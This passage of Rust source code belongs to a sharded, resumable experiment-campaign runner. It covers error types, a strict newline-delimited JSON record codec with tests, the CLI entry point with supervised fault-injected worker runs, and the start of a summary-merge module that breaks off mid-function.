    /// The campaign directory's manifest names a different campaign.
    ManifestMismatch {
        /// The campaign directory.
        dir: PathBuf,
        /// Manifest found on disk.
        found: String,
        /// Manifest this run would write.
        expected: String,
    },
    /// The directory has shard checkpoints but no manifest.
    UnknownProvenance {
        /// The campaign directory.
        dir: PathBuf,
        /// The first stray checkpoint found.
        stray: PathBuf,
    },
    /// A checkpoint holds more records than its shard has planned trials.
    StaleCheckpoint {
        /// Shard index.
        shard: usize,
        /// Records found in the checkpoint.
        have: usize,
        /// Records the plan allows.
        planned: usize,
    },
    /// A shard's checkpoint is short of its planned range at merge time.
    IncompleteShard {
        /// Shard index.
        shard: usize,
        /// Records present.
        have: usize,
        /// Records planned.
        planned: usize,
    },
    /// A worker process could not be spawned.
    WorkerSpawn {
        /// Shard index.
        shard: usize,
        /// Spawn failure detail.
        detail: String,
    },
    /// A worker exited with a failure status.
    WorkerExit {
        /// Shard index.
        shard: usize,
        /// Rendered exit status (code or signal).
        status: String,
    },
    /// A worker's NDJSON stdout stream was corrupt or miscounted.
    WorkerStream {
        /// Shard index.
        shard: usize,
        /// What went wrong with the stream.
        detail: String,
    },
    /// A worker made no checkpoint progress within the stall timeout.
    WorkerStalled {
        /// Shard index.
        shard: usize,
        /// Supervision ticks the worker sat without progress.
        ticks: u64,
    },
    /// A shard exhausted its retry budget and was quarantined. Carried in
    /// the coverage report; `run_supervised` itself degrades to a partial
    /// summary rather than returning this.
    ShardQuarantined {
        /// Shard index.
        shard: usize,
        /// Worker spawns consumed (first lease + retries).
        attempts: usize,
        /// The final failure, rendered.
        last: String,
    },
    /// A malformed CLI value, scale spec, fault spec, or shard spec.
    BadSpec(String),
    /// An internal invariant failed (thread join, lease bookkeeping).
    Internal(String),
}

impl CampaignError {
    /// Wraps an I/O error with its path + operation context.
    pub fn io(context: impl Into<String>, source: std::io::Error) -> Self {
        CampaignError::Io { context: context.into(), source }
    }
}

impl std::fmt::Display for CampaignError {
    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
        match self {
            CampaignError::Io { context, source } => write!(f, "{context}: {source}"),
            CampaignError::CorruptCheckpoint { path, line } => {
                write!(f, "{}: corrupt record at line {line} (not a torn tail)", path.display())
            }
            CampaignError::Schema { path, record, detail } => {
                write!(f, "{} record {record}: {detail}", path.display())
            }
            CampaignError::ManifestMismatch { dir, found, expected } => write!(
                f,
                "{}: this directory belongs to a different campaign\n  found:    {found}  \
                 expected: {expected}rerun with --fresh or a new --out",
                dir.display()
            ),
            CampaignError::UnknownProvenance { dir, stray } => write!(
                f,
                "{}: found checkpoint {} but no manifest — not resuming a directory of \
                 unknown provenance; rerun with --fresh or a new --out",
                dir.display(),
                stray.display()
            ),
            CampaignError::StaleCheckpoint { shard, have, planned } => write!(
                f,
                "shard {shard}: checkpoint has {have} records but only {planned} are planned — \
                 stale campaign directory? rerun with --fresh or a new --out"
            ),
            CampaignError::IncompleteShard { shard, have, planned } => {
                write!(f, "shard {shard}: {have} records, planned {planned} — campaign incomplete")
            }
            CampaignError::WorkerSpawn { shard, detail } => {
                write!(f, "shard {shard}: spawn worker: {detail}")
            }
            CampaignError::WorkerExit { shard, status } => {
                write!(f, "shard {shard}: worker exited with {status}")
            }
            CampaignError::WorkerStream { shard, detail } => {
                write!(f, "shard {shard}: worker stream: {detail}")
            }
            CampaignError::WorkerStalled { shard, ticks } => {
                write!(f, "shard {shard}: worker stalled ({ticks} ticks without progress)")
            }
            CampaignError::ShardQuarantined { shard, attempts, last } => {
                write!(f, "shard {shard}: quarantined after {attempts} attempts (last: {last})")
            }
            CampaignError::BadSpec(s) | CampaignError::Internal(s) => f.write_str(s),
        }
    }
}

impl std::error::Error for CampaignError {
    fn source(&self) -> Option<&(dyn std::error::Error + 'static)> {
        match self {
            CampaignError::Io { source, .. } => Some(source),
            _ => None,
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn display_carries_the_classifying_detail() {
        let e = CampaignError::WorkerExit { shard: 3, status: "exit status: 101".into() };
        assert!(e.to_string().contains("shard 3"));
        assert!(e.to_string().contains("101"));
        let e = CampaignError::WorkerStalled { shard: 1, ticks: 400 };
        assert!(e.to_string().contains("stalled"));
        let e = CampaignError::ManifestMismatch {
            dir: PathBuf::from("d"),
            found: "a\n".into(),
            expected: "b\n".into(),
        };
        assert!(e.to_string().contains("different campaign"));
    }

    #[test]
    fn io_errors_chain_their_source() {
        use std::error::Error as _;
        let e =
            CampaignError::io("open x", std::io::Error::new(std::io::ErrorKind::NotFound, "gone"));
        assert!(e.source().is_some());
        assert!(e.to_string().starts_with("open x: "));
    }
}
