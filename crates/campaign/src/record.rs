//! Typed campaign records and their newline-delimited JSON wire format.
//!
//! Every scenario declares a static [`Schema`] — an ordered list of named,
//! typed fields — and each trial produces one [`Record`] conforming to it.
//! Records cross process boundaries (worker → coordinator pipe, checkpoint
//! files) as one JSON object per line with the fields in schema order, so
//! the encoded line is a pure function of the record and the merge digest
//! is identical whether a record was produced in-process or parsed back
//! out of a worker's stream.
//!
//! Numbers round-trip exactly: `f64` is printed with Rust's shortest
//! round-trip `Display` and parsed back with `str::parse`, which recovers
//! the identical bits for every finite value. Non-finite floats encode as
//! `null` (JSON has no NaN/∞); scenario fields never produce them.

use std::fmt::Write as _;

/// The type of one schema field.
///
/// The histogram kinds are wire-identical to their scalar bases (`HistU64`
/// encodes/decodes exactly like `U64`, `HistF64` like `F64`) — the
/// [`HistSpec`] only changes how the coordinator *aggregates* the field:
/// instead of P² quantiles it builds a fixed-bin `StreamHist` plus a
/// mergeable rank sketch, which is what puts a figure-ready histogram
/// section into `summary.json`.
#[derive(Debug, Clone, Copy, PartialEq)]
pub enum FieldKind {
    /// `true` / `false` (nullable).
    Bool,
    /// Unsigned integer (nullable).
    U64,
    /// Double-precision float (nullable).
    F64,
    /// UTF-8 string (nullable).
    Str,
    /// Unsigned integer aggregated into a declared histogram (nullable).
    HistU64(HistSpec),
    /// Float aggregated into a declared histogram (nullable).
    HistF64(HistSpec),
}

/// The static shape of a declared histogram field: bin `i` covers
/// `[lo + i·width, lo + (i+1)·width)`, with clamped extremes (see
/// `runner::StreamHist`). Const-constructible so scenario schemas can
/// declare figure bucketing statically.
#[derive(Debug, Clone, Copy, PartialEq)]
pub struct HistSpec {
    /// Low edge of bin 0.
    pub lo: f64,
    /// Bin width (positive).
    pub width: f64,
    /// Number of bins (positive).
    pub bins: usize,
}

/// One named, typed field of a scenario's record schema.
#[derive(Debug, Clone, Copy)]
pub struct Field {
    /// JSON object key.
    pub name: &'static str,
    /// Declared type (drives both parsing and aggregation).
    pub kind: FieldKind,
}

/// A scenario's record schema: fields in wire order.
pub type Schema = [Field];

/// One field value. Any field may be `Null` (e.g. "attack never landed").
#[derive(Debug, Clone, PartialEq)]
pub enum Value {
    /// Absent / not applicable.
    Null,
    /// A boolean.
    Bool(bool),
    /// An unsigned integer.
    U64(u64),
    /// A float.
    F64(f64),
    /// A string.
    Str(String),
}

impl Value {
    /// The value as a float sample for aggregation (bools count 0/1).
    pub fn as_sample(&self) -> Option<f64> {
        match self {
            Value::Null | Value::Str(_) => None,
            Value::Bool(b) => Some(f64::from(u8::from(*b))),
            Value::U64(n) => Some(*n as f64),
            Value::F64(x) => Some(*x),
        }
    }
}

/// Converts an optional into a `Value`, mapping `None` to [`Value::Null`].
pub fn opt<T: Into<Value>>(v: Option<T>) -> Value {
    v.map_or(Value::Null, Into::into)
}

impl From<bool> for Value {
    fn from(b: bool) -> Value {
        Value::Bool(b)
    }
}
impl From<u64> for Value {
    fn from(n: u64) -> Value {
        Value::U64(n)
    }
}
impl From<u32> for Value {
    fn from(n: u32) -> Value {
        Value::U64(u64::from(n))
    }
}
impl From<u16> for Value {
    fn from(n: u16) -> Value {
        Value::U64(u64::from(n))
    }
}
impl From<usize> for Value {
    fn from(n: usize) -> Value {
        Value::U64(n as u64)
    }
}
impl From<f64> for Value {
    fn from(x: f64) -> Value {
        Value::F64(x)
    }
}
impl From<&str> for Value {
    fn from(s: &str) -> Value {
        Value::Str(s.to_owned())
    }
}
impl From<String> for Value {
    fn from(s: String) -> Value {
        Value::Str(s)
    }
}

/// One trial's outcome: values parallel to the scenario's [`Schema`].
#[derive(Debug, Clone, PartialEq)]
pub struct Record(pub Vec<Value>);

/// Encodes one record as a single JSON object line (no trailing newline),
/// fields in schema order.
///
/// # Panics
///
/// Panics if the record's arity does not match the schema — a scenario
/// implementation bug, not a runtime condition.
pub fn encode_line(schema: &Schema, record: &Record) -> String {
    assert_eq!(record.0.len(), schema.len(), "record arity must match schema");
    let mut out = String::with_capacity(schema.len() * 16);
    out.push('{');
    for (field, value) in schema.iter().zip(&record.0) {
        if out.len() > 1 {
            out.push(',');
        }
        out.push('"');
        out.push_str(field.name);
        out.push_str("\":");
        encode_value(&mut out, value);
    }
    out.push('}');
    out
}

fn encode_value(out: &mut String, value: &Value) {
    match value {
        Value::Null => out.push_str("null"),
        Value::Bool(true) => out.push_str("true"),
        Value::Bool(false) => out.push_str("false"),
        Value::U64(n) => {
            let _ = write!(out, "{n}");
        }
        Value::F64(x) if !x.is_finite() => out.push_str("null"),
        Value::F64(x) => {
            let _ = write!(out, "{x}");
        }
        Value::Str(s) => {
            out.push('"');
            for c in s.chars() {
                match c {
                    '"' => out.push_str("\\\""),
                    '\\' => out.push_str("\\\\"),
                    '\n' => out.push_str("\\n"),
                    '\r' => out.push_str("\\r"),
                    '\t' => out.push_str("\\t"),
                    c if (c as u32) < 0x20 => {
                        let _ = write!(out, "\\u{:04x}", c as u32);
                    }
                    c => out.push(c),
                }
            }
            out.push('"');
        }
    }
}

/// Decodes one line back into a record, strictly: the object must carry
/// exactly the schema's fields, in schema order, with values of the
/// declared kinds (or `null`). Strictness is what lets a resumed campaign
/// trust a checkpoint file: any torn or foreign line fails loudly.
///
/// # Errors
///
/// Returns a description of the first deviation from the schema.
pub fn decode_line(schema: &Schema, line: &str) -> Result<Record, String> {
    let mut p = Parser { b: line.as_bytes(), pos: 0 };
    p.expect(b'{')?;
    let mut values = Vec::with_capacity(schema.len());
    for (i, field) in schema.iter().enumerate() {
        if i > 0 {
            p.expect(b',')?;
        }
        let key = p.string()?;
        if key != field.name {
            return Err(format!("field {i}: expected key {:?}, got {key:?}", field.name));
        }
        p.expect(b':')?;
        values.push(p.value(field.kind)?);
    }
    p.expect(b'}')?;
    if p.pos != p.b.len() {
        return Err(format!("trailing data at byte {}", p.pos));
    }
    Ok(Record(values))
}

struct Parser<'a> {
    b: &'a [u8],
    pos: usize,
}

impl Parser<'_> {
    fn expect(&mut self, c: u8) -> Result<(), String> {
        if self.b.get(self.pos) == Some(&c) {
            self.pos += 1;
            Ok(())
        } else {
            Err(format!("expected '{}' at byte {}", c as char, self.pos))
        }
    }

    fn literal(&mut self, word: &str) -> bool {
        if self.b[self.pos..].starts_with(word.as_bytes()) {
            self.pos += word.len();
            true
        } else {
            false
        }
    }

    fn value(&mut self, kind: FieldKind) -> Result<Value, String> {
        if self.literal("null") {
            return Ok(Value::Null);
        }
        match kind {
            FieldKind::Bool => {
                if self.literal("true") {
                    Ok(Value::Bool(true))
                } else if self.literal("false") {
                    Ok(Value::Bool(false))
                } else {
                    Err(format!("expected bool at byte {}", self.pos))
                }
            }
            FieldKind::U64 | FieldKind::HistU64(_) => {
                let tok = self.number_token()?;
                tok.parse::<u64>().map(Value::U64).map_err(|e| format!("bad u64 {tok:?}: {e}"))
            }
            FieldKind::F64 | FieldKind::HistF64(_) => {
                let tok = self.number_token()?;
                tok.parse::<f64>().map(Value::F64).map_err(|e| format!("bad f64 {tok:?}: {e}"))
            }
            FieldKind::Str => self.string().map(Value::Str),
        }
    }

    fn number_token(&mut self) -> Result<&str, String> {
        let start = self.pos;
        while self
            .b
            .get(self.pos)
            .is_some_and(|c| c.is_ascii_digit() || matches!(c, b'-' | b'+' | b'.' | b'e' | b'E'))
        {
            self.pos += 1;
        }
        if self.pos == start {
            return Err(format!("expected a number at byte {start}"));
        }
        std::str::from_utf8(&self.b[start..self.pos]).map_err(|e| e.to_string())
    }

    fn string(&mut self) -> Result<String, String> {
        self.expect(b'"')?;
        let mut out = String::new();
        loop {
            match self.b.get(self.pos) {
                None => return Err("unterminated string".into()),
                Some(b'"') => {
                    self.pos += 1;
                    return Ok(out);
                }
                Some(b'\\') => {
                    self.pos += 1;
                    match self.b.get(self.pos) {
                        Some(b'"') => out.push('"'),
                        Some(b'\\') => out.push('\\'),
                        Some(b'/') => out.push('/'),
                        Some(b'n') => out.push('\n'),
                        Some(b'r') => out.push('\r'),
                        Some(b't') => out.push('\t'),
                        Some(b'u') => {
                            let hex = self
                                .b
                                .get(self.pos + 1..self.pos + 5)
                                .ok_or("truncated \\u escape")?;
                            let code = std::str::from_utf8(hex)
                                .ok()
                                .and_then(|h| u32::from_str_radix(h, 16).ok())
                                .ok_or("bad \\u escape")?;
                            out.push(char::from_u32(code).ok_or("bad \\u code point")?);
                            self.pos += 4;
                        }
                        _ => return Err(format!("bad escape at byte {}", self.pos)),
                    }
                    self.pos += 1;
                }
                Some(_) => {
                    // Multi-byte UTF-8 passes through unmodified. The slice
                    // is non-empty (guarded by the `Some`), but corrupt
                    // checkpoint bytes reach this decoder, so fail typed
                    // rather than assume.
                    let s = std::str::from_utf8(&self.b[self.pos..]).map_err(|e| e.to_string())?;
                    let c = s.chars().next().ok_or("empty string continuation")?;
                    out.push(c);
                    self.pos += c.len_utf8();
                }
            }
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    const SCHEMA: &Schema = &[
        Field { name: "ok", kind: FieldKind::Bool },
        Field { name: "count", kind: FieldKind::U64 },
        Field { name: "shift", kind: FieldKind::F64 },
        Field { name: "who", kind: FieldKind::Str },
    ];

    #[test]
    fn encode_decode_round_trips() {
        let rec = Record(vec![
            Value::Bool(true),
            Value::U64(u64::MAX),
            Value::F64(-499.999_999_999_73),
            Value::Str("sys\"temd\\ \n π".into()),
        ]);
        let line = encode_line(SCHEMA, &rec);
        assert_eq!(decode_line(SCHEMA, &line).expect("round trip"), rec);
    }

    #[test]
    fn nulls_round_trip_in_every_kind() {
        let rec = Record(vec![Value::Null, Value::Null, Value::Null, Value::Null]);
        let line = encode_line(SCHEMA, &rec);
        assert_eq!(line, r#"{"ok":null,"count":null,"shift":null,"who":null}"#);
        assert_eq!(decode_line(SCHEMA, &line).expect("round trip"), rec);
    }

    #[test]
    fn non_finite_floats_encode_as_null() {
        let rec = Record(vec![
            Value::Bool(false),
            Value::U64(0),
            Value::F64(f64::NAN),
            Value::Str(String::new()),
        ]);
        let line = encode_line(SCHEMA, &rec);
        assert!(line.contains("\"shift\":null"), "{line}");
    }

    #[test]
    fn decode_rejects_torn_and_foreign_lines() {
        let rec =
            Record(vec![Value::Bool(true), Value::U64(3), Value::F64(1.5), Value::Str("x".into())]);
        let line = encode_line(SCHEMA, &rec);
        for bad in [
            &line[..line.len() - 1],                            // torn tail
            &line[1..],                                         // torn head
            r#"{"ok":true}"#,                                   // missing fields
            r#"{"ok":1,"count":2,"shift":3.0,"who":"x"}"#,      // wrong kind
            r#"{"oops":true,"count":2,"shift":3.0,"who":"x"}"#, // wrong key
        ] {
            assert!(decode_line(SCHEMA, bad).is_err(), "should reject: {bad}");
        }
    }

    #[test]
    fn hist_kinds_are_wire_identical_to_their_scalar_bases() {
        const SPEC: HistSpec = HistSpec { lo: -200.0, width: 25.0, bins: 17 };
        const HIST: &Schema = &[
            Field { name: "ttl", kind: FieldKind::HistU64(SPEC) },
            Field { name: "ms", kind: FieldKind::HistF64(SPEC) },
        ];
        const SCALAR: &Schema = &[
            Field { name: "ttl", kind: FieldKind::U64 },
            Field { name: "ms", kind: FieldKind::F64 },
        ];
        for rec in [
            Record(vec![Value::U64(42), Value::F64(-3.25)]),
            Record(vec![Value::Null, Value::Null]),
        ] {
            let line = encode_line(HIST, &rec);
            assert_eq!(line, encode_line(SCALAR, &rec));
            assert_eq!(decode_line(HIST, &line).expect("decodes"), rec);
            assert_eq!(decode_line(SCALAR, &line).expect("decodes"), rec);
        }
    }

    #[test]
    fn float_bits_survive_the_wire() {
        for bits in [0x0000_0000_0000_0001u64, 0x3FF0_0000_0000_0001, 0xC07F_4000_0000_0000] {
            let x = f64::from_bits(bits);
            let rec = Record(vec![Value::Null, Value::Null, Value::F64(x), Value::Null]);
            let line = encode_line(SCHEMA, &rec);
            let back = decode_line(SCHEMA, &line).expect("decodes");
            match back.0[2] {
                Value::F64(y) => assert_eq!(y.to_bits(), bits, "bits must round-trip"),
                ref other => panic!("expected F64, got {other:?}"),
            }
        }
    }
}
