//! The `campaign` CLI: named-scenario campaigns, sharded and resumable.
//!
//! ```sh
//! campaign list                          # registered scenarios
//! campaign run table2 --shards 4         # 4 in-process shard threads
//! campaign run fig6 --shards 4 --subprocess --workers 2
//! campaign run fig5 --paper --master-seed 7 --out runs/fig5
//! campaign run table2 --supervised --max-retries 2 --worker-timeout 2000
//! campaign worker …                      # internal: spawned by --subprocess
//! ```
//!
//! `run` resumes automatically: if the campaign directory already holds
//! shard checkpoints, only the missing records are computed, and the final
//! digest is bit-identical to an uninterrupted run. `--fresh` wipes the
//! directory's checkpoints first.
//!
//! `--supervised` runs the shards under the self-healing lease supervisor
//! (always subprocess workers): dead, hung, or corrupt-stream workers are
//! re-leased from their last good checkpoint, and a shard that exhausts
//! `--max-retries` is quarantined into a partial summary with a coverage
//! report. `--fault <shard>:<spec>[:xN]` injects deterministic failures
//! for chaos testing (see `campaign::faults`). Supervised runs rewrite a
//! `metrics.json` sidecar in the campaign directory every poll tick;
//! `--trace-dir DIR` additionally dumps each shard's supervision
//! flight-recorder ring as `DIR/shard-K.trace` when the run ends.

use std::path::PathBuf;
use std::process::ExitCode;

use campaign::exec::{self, CampaignConfig, ExecMode};
use campaign::faults::{FaultPlan, FaultSpec};
use campaign::supervisor::{self, SupervisorConfig};
use campaign::{checkpoint, registry};
use timeshift::experiments::Scale;

fn main() -> ExitCode {
    let args: Vec<String> = std::env::args().skip(1).collect();
    let result = match args.first().map(String::as_str) {
        Some("list") => cmd_list(),
        Some("run") => cmd_run(&args[1..]),
        Some("worker") => cmd_worker(&args[1..]),
        _ => {
            eprintln!(
                "usage: campaign <list | run <scenario> [options] | worker …>\n\
                 run options: [--shards K] [--workers N] [--master-seed S]\n\
                 \x20            [--scale quick|paper] [--paper] [--resolvers N]\n\
                 \x20            [--subprocess] [--out DIR] [--fresh] [--quiet]\n\
                 \x20            [--supervised] [--max-retries R] [--worker-timeout MS]\n\
                 \x20            [--poll-interval MS] [--fault shard:spec[:xN]]…\n\
                 \x20            [--trace-dir DIR]"
            );
            return ExitCode::from(2);
        }
    };
    match result {
        Ok(()) => ExitCode::SUCCESS,
        Err(e) => {
            eprintln!("campaign: {e}");
            ExitCode::FAILURE
        }
    }
}

fn cmd_list() -> Result<(), String> {
    println!("registered scenarios:");
    for s in registry::all() {
        let quick = s.build(Scale::quick()).trials();
        println!("  {:<15} {:>6} quick trials  {}", s.name, quick, s.about);
    }
    Ok(())
}

struct Parsed {
    positional: Vec<String>,
    flags: Vec<(String, Option<String>)>,
}

/// Splits args into positionals and `--flag [value]` pairs. Value-taking
/// flags must be listed in `valued`, bare switches in `bare`; anything
/// else is an error — a misspelled flag must never fall through to a
/// silently-default campaign (the whole tool is about reproducible runs).
fn parse_args(args: &[String], valued: &[&str], bare: &[&str]) -> Result<Parsed, String> {
    let mut parsed = Parsed { positional: Vec::new(), flags: Vec::new() };
    let mut it = args.iter().peekable();
    while let Some(a) = it.next() {
        if let Some(name) = a.strip_prefix("--") {
            if bare.contains(&name) {
                parsed.flags.push((name.to_owned(), None));
            } else if valued.contains(&name) {
                let value = it.next().ok_or_else(|| format!("--{name} needs a value"))?;
                parsed.flags.push((name.to_owned(), Some(value.clone())));
            } else {
                return Err(format!(
                    "unknown flag --{name} (valid: {})",
                    valued
                        .iter()
                        .chain(bare)
                        .map(|f| format!("--{f}"))
                        .collect::<Vec<_>>()
                        .join(" ")
                ));
            }
        } else {
            parsed.positional.push(a.clone());
        }
    }
    Ok(parsed)
}

impl Parsed {
    fn flag(&self, name: &str) -> Option<&str> {
        self.flags.iter().rev().find(|(n, _)| n == name).and_then(|(_, v)| v.as_deref())
    }
    fn has(&self, name: &str) -> bool {
        self.flags.iter().any(|(n, _)| n == name)
    }
    fn parse<T: std::str::FromStr>(&self, name: &str, default: T) -> Result<T, String>
    where
        T::Err: std::fmt::Display,
    {
        match self.flag(name) {
            None => Ok(default),
            Some(v) => v.parse().map_err(|e| format!("--{name} {v:?}: {e}")),
        }
    }
}

fn cmd_run(args: &[String]) -> Result<(), String> {
    let parsed = parse_args(
        args,
        &[
            "shards",
            "workers",
            "master-seed",
            "scale",
            "resolvers",
            "out",
            "max-retries",
            "worker-timeout",
            "poll-interval",
            "fault",
            "trace-dir",
        ],
        &["paper", "subprocess", "fresh", "quiet", "supervised"],
    )?;
    let [name] = parsed.positional.as_slice() else {
        return Err("run takes exactly one scenario name (see `campaign list`)".into());
    };
    let scenario = registry::find(name)
        .ok_or_else(|| format!("unknown scenario {name:?} (see `campaign list`)"))?;

    // `--scale paper` is the canonical spelling; `--paper` stays as the
    // historic alias. `--resolvers N` overrides just the survey population
    // (labelled "custom" so run directories never collide with the stock
    // scales).
    let paper = match parsed.flag("scale") {
        None => parsed.has("paper"),
        Some("quick") => false,
        Some("paper") => true,
        Some(other) => return Err(format!("--scale {other:?}: expected quick or paper")),
    };
    let mut scale = if paper { Scale::paper() } else { Scale::quick() };
    scale.seed = parsed.parse("master-seed", scale.seed)?;
    let mut scale_label = if paper { "paper" } else { "quick" };
    if let Some(n) = parsed.flag("resolvers") {
        scale.resolvers = n.parse().map_err(|e| format!("--resolvers {n:?}: {e}"))?;
        scale_label = "custom";
    }

    let shards: usize = parsed.parse("shards", 4)?;
    let shards = shards.max(1);
    let default_workers =
        std::thread::available_parallelism().map(std::num::NonZeroUsize::get).unwrap_or(4);
    let workers: usize = parsed.parse("workers", shards.min(default_workers))?;

    let dir = match parsed.flag("out") {
        Some(d) => PathBuf::from(d),
        None => PathBuf::from(format!(
            "target/campaign/{name}-{scale_label}-seed{}-x{shards}",
            scale.seed
        )),
    };
    if parsed.has("fresh") {
        checkpoint::wipe(&dir).map_err(|e| e.to_string())?;
    }

    let supervised = parsed.has("supervised");
    if parsed.has("trace-dir") && !supervised {
        return Err("--trace-dir requires --supervised (rings record supervision events)".into());
    }
    let mode = if parsed.has("subprocess") || supervised {
        let exe = std::env::current_exe().map_err(|e| format!("current_exe: {e}"))?;
        ExecMode::Subprocess { exe }
    } else {
        ExecMode::InProcess
    };

    let config = CampaignConfig {
        scenario,
        scale,
        scale_label: scale_label.into(),
        shards,
        workers,
        mode,
        dir: dir.clone(),
        verbose: !parsed.has("quiet"),
    };

    let summary = if supervised {
        let defaults = SupervisorConfig::default();
        let mut faults = FaultPlan::none();
        for (name, value) in &parsed.flags {
            if name == "fault" {
                let entry = value.as_deref().unwrap_or_default();
                faults.push_cli(entry).map_err(|e| e.to_string())?;
            }
        }
        let sup = SupervisorConfig {
            max_retries: parsed.parse("max-retries", defaults.max_retries)?,
            worker_timeout_ms: parsed.parse("worker-timeout", defaults.worker_timeout_ms)?,
            poll_interval_ms: parsed.parse("poll-interval", defaults.poll_interval_ms)?,
            faults,
            trace_dir: parsed.flag("trace-dir").map(PathBuf::from),
            ..defaults
        };
        let ExecMode::Subprocess { exe } = &config.mode else {
            return Err("supervised mode requires subprocess workers".into());
        };
        let run = supervisor::run_supervised(&config, exe, &sup).map_err(|e| e.to_string())?;
        if config.verbose {
            for r in run.reports.iter().filter(|r| !r.failures.is_empty()) {
                eprintln!(
                    "shard {}: {} attempt(s){}",
                    r.shard,
                    r.attempts,
                    if r.quarantined { ", QUARANTINED" } else { ", healed" }
                );
                for f in &r.failures {
                    eprintln!("    failure: {}", f.lines().next().unwrap_or_default());
                }
            }
        }
        run.summary
    } else {
        exec::run_campaign(&config).map_err(|e| e.to_string())?
    };
    print!("{}", summary.render_text());
    println!("  summary: {}", checkpoint::summary_path(&dir).display());
    if !summary.complete {
        return Err("campaign completed PARTIALLY (quarantined shards; see coverage)".into());
    }
    Ok(())
}

fn cmd_worker(args: &[String]) -> Result<(), String> {
    let parsed =
        parse_args(args, &["scenario", "shard", "skip", "checkpoint", "scale-spec", "fault"], &[])?;
    let name = parsed.flag("scenario").ok_or("worker needs --scenario")?;
    let scenario = registry::find(name).ok_or_else(|| format!("unknown scenario {name:?}"))?;
    let scale =
        exec::parse_scale_spec(parsed.flag("scale-spec").ok_or("worker needs --scale-spec")?)
            .map_err(|e| e.to_string())?;
    let shard_spec = parsed.flag("shard").ok_or("worker needs --shard k/K")?;
    let (k, shards) = shard_spec
        .split_once('/')
        .and_then(|(k, n)| Some((k.parse().ok()?, n.parse().ok()?)))
        .ok_or_else(|| format!("bad --shard {shard_spec:?} (expected k/K)"))?;
    let skip: usize = parsed.parse("skip", 0)?;
    let checkpoint_path =
        PathBuf::from(parsed.flag("checkpoint").ok_or("worker needs --checkpoint")?);
    let fault = match parsed.flag("fault") {
        Some(spec) => Some(FaultSpec::parse(spec).map_err(|e| e.to_string())?),
        None => None,
    };
    exec::run_worker(scenario, scale, k, shards, skip, &checkpoint_path, fault)
        .map_err(|e| e.to_string())
}
