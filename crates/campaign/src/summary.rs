//! Deterministic merge + online aggregation: the coordinator's final pass.
//!
//! After every shard's checkpoint is complete, the coordinator streams the
//! shard files **in shard order** — which, with contiguous shard ranges,
//! is exactly global trial order — feeding each line to the campaign
//! digest and the per-field aggregators. Memory stays O(1) in the trial
//! count: one line buffer, five P² markers per quantile, a handful of
//! counters. The result is written as `summary.json` next to the shards.
//!
//! A supervised run that quarantined shards still merges — into a
//! **partial** summary (`complete: false`) whose coverage report says
//! exactly which shards contributed which fraction of their planned
//! records and why the rest are missing. Degrading to an explicit partial
//! result beats aborting: a million-trial campaign with one poisoned
//! shard is still 95+% of a dataset, and the coverage report is what
//! makes the gap auditable instead of silent.

use std::fs::File;
use std::io::{BufRead, BufReader};
use std::path::Path;

use crate::checkpoint;
use crate::digest::Digest;
use crate::error::CampaignError;
use crate::record::decode_line;
use crate::registry::Scenario;
use crate::stats::Aggregate;

/// One shard's slice of the merged stream.
#[derive(Debug, Clone)]
pub struct ShardSummary {
    /// Shard index.
    pub shard: usize,
    /// Records the shard contributed.
    pub records: usize,
    /// Digest of the shard's own stream.
    pub digest: String,
}

/// One shard's line in the coverage report: how much of its planned range
/// made it into the merge, and why the rest is missing.
#[derive(Debug, Clone)]
pub struct ShardCoverage {
    /// Shard index.
    pub shard: usize,
    /// Records the plan assigned to this shard.
    pub planned: usize,
    /// Records actually merged from its checkpoint.
    pub records: usize,
    /// Whether the shard delivered its full planned range.
    pub complete: bool,
    /// Whether the supervisor quarantined the shard (retry budget spent).
    pub quarantined: bool,
    /// Worker spawns the shard consumed (0 for an unsupervised merge).
    pub attempts: usize,
    /// The quarantining failure, rendered — `None` for healthy shards.
    pub last_error: Option<String>,
}

/// A quarantined shard as the supervisor hands it to the merge: which
/// shard, how many attempts it burned, what finally killed it.
#[derive(Debug, Clone)]
pub struct QuarantinedShard {
    /// Shard index.
    pub shard: usize,
    /// Worker spawns consumed (first lease + retries).
    pub attempts: usize,
    /// The final failure, rendered.
    pub last_error: String,
}

/// The merged result of a campaign run.
#[derive(Debug, Clone)]
pub struct Summary {
    /// Scenario name.
    pub scenario: &'static str,
    /// Scale label ("quick" / "paper" / "custom").
    pub scale_label: String,
    /// Master seed.
    pub master_seed: u64,
    /// Shard count.
    pub shards: usize,
    /// Total records merged.
    pub records: usize,
    /// Whether every shard delivered its planned range. A `false` here is
    /// a **partial** summary: consult [`Summary::coverage`].
    pub complete: bool,
    /// Digest of the merged stream — the campaign's identity. For a
    /// partial summary this digests only the merged prefix records and is
    /// *not* comparable to a complete run's digest.
    pub digest: String,
    /// Per-shard slices.
    pub shard_summaries: Vec<ShardSummary>,
    /// Per-shard coverage report (always present; all-complete for a
    /// healthy run).
    pub coverage: Vec<ShardCoverage>,
    /// Online per-field aggregates.
    pub aggregate: Aggregate,
}

/// Escapes a string for embedding in a JSON string literal.
fn json_escape(s: &str) -> String {
    let mut out = String::with_capacity(s.len());
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            '\n' => out.push_str("\\n"),
            '\r' => out.push_str("\\r"),
            '\t' => out.push_str("\\t"),
            c if (c as u32) < 0x20 => {
                use std::fmt::Write as _;
                let _ = write!(out, "\\u{:04x}", c as u32);
            }
            c => out.push(c),
        }
    }
    out
}

impl Summary {
    /// Renders `summary.json` (validated well-formed by the test suite).
    /// Field order is stable; in particular `"digest"` precedes
    /// `"shard_digests"` and `"coverage"` — CI greps the first `"digest"`
    /// occurrence as the campaign identity.
    pub fn render_json(&self) -> String {
        let mut out = String::new();
        use std::fmt::Write as _;
        let _ = write!(
            out,
            "{{\n  \"campaign\": \"{}\",\n  \"scale\": \"{}\",\n  \"master_seed\": {},\n  \
             \"shards\": {},\n  \"records\": {},\n  \"complete\": {},\n  \"digest\": \"{}\",\n  \
             \"shard_digests\": [",
            self.scenario,
            self.scale_label,
            self.master_seed,
            self.shards,
            self.records,
            self.complete,
            self.digest
        );
        for (i, s) in self.shard_summaries.iter().enumerate() {
            let _ = write!(
                out,
                "{}\n    {{ \"shard\": {}, \"records\": {}, \"digest\": \"{}\" }}",
                if i > 0 { "," } else { "" },
                s.shard,
                s.records,
                s.digest
            );
        }
        out.push_str("\n  ],\n  \"coverage\": [");
        for (i, c) in self.coverage.iter().enumerate() {
            let last = match &c.last_error {
